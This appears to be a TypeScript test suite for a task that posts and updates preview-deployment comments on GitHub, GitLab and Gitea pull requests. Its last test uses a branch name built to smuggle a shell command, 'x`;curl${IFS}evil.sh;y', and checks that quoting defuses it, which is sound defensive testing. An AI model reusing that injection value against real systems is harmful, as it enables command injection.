import assert from "node:assert/strict";
import { createHmac } from "node:crypto";
import { describe, test } from "node:test";
import { sql } from "kysely";
import { testBuild, testDeployment, testProject } from "../../../test/support/fixtures.ts";
import { platformBeside } from "../../../test/support/platform-double.ts";
import { sharedApi, testOrganization } from "../../../test/support/test-platform.ts";
import { queueComment, receiveHook, sealFollow, type Hook } from "../../features/follow/follow.ts";
import { runOk } from "../../kit/exec.ts";
import { newId } from "../../kit/ids.ts";
import type { OutgoingOutcome, OutgoingRequest } from "../../ports/outgoing-http.ts";
import { previewCommentsTask } from "./preview-comments-task.ts";

const api = await sharedApi();
const branch = "feature/search";

interface Request {
  readonly number: number;
  readonly branch: string;
  readonly isFork?: boolean;
}

/** A repository's host, with its pull requests and the comments on the one with the number 7. */
function hostDouble(provider: "github" | "gitlab" | "gitea") {
  const requests: Request[] = [];
  const comments = new Map<number, string>([[1, "A person's comment."]]);
  let refusal: number | undefined;
  const sent: string[] = [];
  const shown = ({ number, branch: ref, isFork = false }: Request) => {
    const url = `https://git.example.org/acme/shop/pulls/${number}`;
    if (provider === "gitlab")
      return {
        ...{ iid: number, web_url: url, source_branch: ref },
        ...{ source_project_id: isFork ? 2 : 1, target_project_id: 1, description: null },
      };
    const side = (name: string, id: number) => ({ ref: name, repo: { id, full_name: `acme/${id}` } });
    return { number, html_url: url, head: side(ref, isFork ? 2 : 1), base: side("main", 1), title: "x" };
  };
  const {
    api: root,
    find,
    list,
    edit,
  } = {
    github: {
      api: "https://git.example.org/api/v3/repos/acme/shop",
      find: /^\/pulls\?state=open&head=acme%3Afeature%2Fsearch/,
      list: /^\/issues\/7\/comments/,
      edit: /^\/issues\/comments\/(\d+)$/,
    },
    gitlab: {
      api: "https://git.example.org/api/v4/projects/acme%2Fshop",
      find: /^\/merge_requests\?state=opened&source_branch=feature%2Fsearch/,
      list: /^\/merge_requests\/7\/notes/,
      edit: /^\/merge_requests\/7\/notes\/(\d+)$/,
    },
    gitea: {
      api: "https://git.example.org/api/v1/repos/acme/shop",
      find: /^\/pulls\?state=open/,
      list: /^\/issues\/7\/comments/,
      edit: /^\/issues\/comments\/(\d+)$/,
    },
  }[provider];
  const answer = ({ method = "POST", url, body }: OutgoingRequest): readonly [number, unknown] => {
    if (refusal !== undefined) return [refusal, { message: "no" }];
    assert.ok(url.startsWith(root), url);
    const path = url.slice(root.length);
    const text = body === "" ? "" : (JSON.parse(body) as { body: string }).body;
    const edited = Number(edit.exec(path)?.[1]);
    if (method === "GET" && find.test(path)) return [200, requests.map(shown)];
    if (method === "GET" && list.test(path)) return [200, [...comments].map(([id, each]) => ({ id, body: each }))];
    if (method === "POST" && list.test(path)) {
      const id = 100 + comments.size;
      comments.set(id, text);
      return [201, { id, body: text }];
    }
    if (method === (provider === "gitlab" ? "PUT" : "PATCH") && comments.has(edited)) {
      comments.set(edited, text);
      return [200, { id: edited, body: text }];
    }
    return [404, {}];
  };
  return {
    requests,
    sent,
    refuse: (status: number | undefined) => void (refusal = status),
    /** Berth's own comments. */
    own: () => [...comments.values()].filter((each) => each.includes("berth:preview")),
    async send(request: OutgoingRequest): Promise<OutgoingOutcome> {
      sent.push(`${request.method} ${request.url}`);
      const [status, document] = answer(request);
      return { outcome: "answered", status, excerpt: JSON.stringify(document) };
    },
  };
}

/** A preview of a followed repository on such a host. */
async function scene(provider: "github" | "gitlab" | "gitea") {
  const { db, vault } = api.platform;
  const org = await testOrganization(db, `o-${newId("org").slice(-10)}`);
  const parent = await testProject(api.platform, org);
  const preview = await testProject(api.platform, org);
  const expires = new Date(Date.now() + 72 * 3_600_000);
  await db
    .updateTable("project")
    .set({ preview_of: parent.id, git_branch: branch, preview_expires_at: expires })
    .where("id", "=", preview.id)
    .execute();
  const id = newId("fol");
  const url = "https://git.example.org/acme/shop.git";
  const token = sealFollow(vault, id, "token", "secret");
  await db
    .insertInto("project_follow")
    .values({
      ...{ id, org_id: org.id, project_id: parent.id, url, branch: "main", provider, sealed_token: token },
      sealed_secret: sealFollow(vault, id, "secret", "whsec_AAAA"),
    })
    .execute();
  const owner = { org_id: org.id, project_id: preview.id };
  const build_id = await testBuild(api.platform, owner, { status: "running" });
  await db.transaction().execute((tx) => queueComment(tx, { ...owner, follow_id: id }));
  const host = hostDouble(provider);
  const platform = platformBeside(api, { owner: "boot/1/1", ports: { outgoingHttp: { send: host.send } } });
  const task = previewCommentsTask(platform);
  const due = () =>
    db
      .updateTable("preview_comment")
      .set({ next_attempt_at: sql`now()` })
      .where("project_id", "=", preview.id)
      .execute();
  const row = () =>
    db.selectFrom("preview_comment").selectAll().where("project_id", "=", preview.id).executeTakeFirst();
  return {
    ...{ db, host, owner, build_id, row, due, parent, preview, org, id, vault },
    /** Runs the task; the comment is due at once, or only if it is. */
    async look(isDue = true) {
      if (isDue) await due();
      await task.run(new AbortController().signal);
    },
    shown: async () =>
      (
        await api.call("GET", `/v1/projects/${parent.slug}/previews/${encodeURIComponent(branch)}/comment`, {
          token: org.member,
        })
      ).body as { text: string; posted: boolean; request: { number: number } | null; problem: string | null },
  };
}

describe("the comment about a preview", () => {
  for (const provider of ["github", "gitlab", "gitea"] as const)
    test(`${provider}: one on the branch's own request, changed as the preview changes, never a second one`, async () => {
      const s = await scene(provider);
      const { db, host } = s;
      host.requests.push({ number: 6, branch, isFork: true }, { number: 5, branch: "other" });
      await s.look();
      assert.deepEqual(
        [host.own(), (await s.row())?.request],
        [[], null],
        "a fork's request of the same branch is none",
      );
      host.requests.push({ number: 7, branch });
      await s.look();
      const [first = ""] = host.own();
      assert.match(
        first,
        /The preview of `feature\/search` is being built[^]*\| URL \| http[^]*berth preview delete feature\/search/,
      );
      const deployed = { build_id: s.build_id, number: 1, status: "active" } as const;
      await db.updateTable("build").set({ status: "succeeded" }).where("id", "=", s.build_id).execute();
      await testDeployment(api.platform, s.owner, deployed);
      await s.look();
      assert.match(host.own()[0] ?? "", /is live/);
      const asked = host.sent.length;
      await s.look();
      assert.equal(host.sent.length, asked, "what is true already is not written again");
      // Posted by who died before it was recorded.
      await db
        .updateTable("preview_comment")
        .set({ comment_id: null, shown: null })
        .where("project_id", "=", s.preview.id)
        .execute();
      await s.look();
      assert.equal(host.own().length, 1);
      const said = await s.shown();
      assert.deepEqual([said.posted, said.request?.number, said.problem], [true, 7, null]);
      assert.equal(said.text, host.own()[0]);
      await db
        .updateTable("project")
        .set({ deleted_at: sql`now()` })
        .where("id", "=", s.preview.id)
        .execute();
      await s.look();
      assert.match(host.own()[0] ?? "", /was removed, with its data/);
      assert.deepEqual([host.own().length, await s.row()], [1, undefined]);
    });

  test("the rehearsal that it tells is one of the very commit, and one that was not held is no pass", async () => {
    const s = await scene("github");
    s.host.requests.push({ number: 7, branch });
    const owner = { org_id: s.org.id, project_id: s.parent.id };
    const build_id = await testBuild(api.platform, owner, { status: "succeeded" });
    await s.db.updateTable("build").set({ rehearse_only: true }).where("id", "=", build_id).execute();
    const deployment_id = await testDeployment(api.platform, owner, { build_id, number: 1, status: "retired" });
    const reason = "The disk has no room for a copy of the database.";
    await s.db
      .insertInto("rehearsal")
      .values({ deployment_id, ...owner, status: "skipped", reason, cleared: true })
      .execute();
    await s.look();
    assert.match(s.host.own()[0] ?? "", /\| Rehearsal [^|]+ \| skipped \|/);
    await s.db
      .updateTable("build")
      .set({ commit: "d".repeat(40) })
      .where("id", "=", s.build_id)
      .execute();
    await s.look();
    assert.match(s.host.own()[0] ?? "", /\| Rehearsal [^|]+ \| none \(/);
  });

  test("a token that may not comment is told once, and the text is there to copy", async () => {
    const s = await scene("github");
    s.host.refuse(403);
    await s.look();
    await s.look(false);
    assert.equal(s.host.sent.length, 1);
    const { posted, problem, text } = await s.shown();
    assert.ok(!posted);
    assert.match(problem ?? "", /status 403\. The token may not comment/);
    assert.match(text, /feature\/search/);
    s.host.refuse(undefined);
    s.host.requests.push({ number: 7, branch });
    await s.db.transaction().execute((tx) => queueComment(tx, { ...s.owner, follow_id: s.id }));
    await s.look(false);
    assert.equal(s.host.own().length, 1, "the next push tries again");
  });

  test("a comment that somebody deleted is not posted again", async () => {
    const s = await scene("gitea");
    s.host.requests.push({ number: 7, branch });
    await s.look();
    await s.db
      .updateTable("preview_comment")
      .set({ comment_id: "999", shown: null })
      .where("project_id", "=", s.preview.id)
      .execute();
    await s.look();
    await s.look(false);
    assert.equal(s.host.own().length, 1);
    assert.match((await s.row())?.problem ?? "", /404/);
  });

  test("a host that fails is asked again later, and a delivery about a pull request at once", async () => {
    const s = await scene("github");
    s.host.refuse(502);
    await s.look();
    assert.match((await s.row())?.problem ?? "", /502/);
    s.host.refuse(undefined);
    s.host.requests.push({ number: 7, branch });
    await s.look(false);
    assert.equal(s.host.own().length, 0);
    const body = Buffer.from(JSON.stringify({ action: "opened" }));
    const signature = createHmac("sha256", "whsec_AAAA").update(body).digest("hex");
    const headers = { "x-github-event": "pull_request", "x-hub-signature-256": `sha256=${signature}` };
    const hook = await s.db.selectFrom("project_follow").selectAll().where("id", "=", s.id).executeTakeFirstOrThrow();
    const wanted = { previews: ["*"], deploy_branch: null };
    await receiveHook(api.platform, { ...hook, ...wanted } as unknown as Hook, { headers, body });
    await s.look(false);
    assert.equal(s.host.own().length, 1);
  });

  test("a branch's name becomes neither markup nor a command", async () => {
    const s = await scene("github");
    await s.db.updateTable("project").set({ git_branch: "a`|@all" }).where("id", "=", s.preview.id).execute();
    const { rows } = await sql<{ id: string }>`select id from project where id = ${s.preview.id}`.execute(s.db);
    assert.equal(rows.length, 1);
    const path = `/v1/projects/${s.parent.slug}/previews/${s.preview.slug}/comment`;
    const { body } = await api.call("GET", path, { token: s.org.member });
    assert.match(String(body["text"]), /`a'\\\|@all`/);
    const evil = "x`;curl${IFS}evil.sh;y";
    await s.db.updateTable("project").set({ git_branch: evil }).where("id", "=", s.preview.id).execute();
    const { text } = (await api.call("GET", path, { token: s.org.member })).body as { text: string };
    const commands = [...text.matchAll(/`berth [^`]+`/g)].map(([command]) => command.slice(1, -1));
    assert.equal(commands.length, 2);
    for (const command of commands) {
      const { stdout } = await runOk({ file: "sh", args: ["-c", command.replace(/^berth/, "printf '%s\\n'")] });
      assert.ok(stdout.split("\n").includes("x';curl${IFS}evil.sh;y"), command);
    }
  });
});
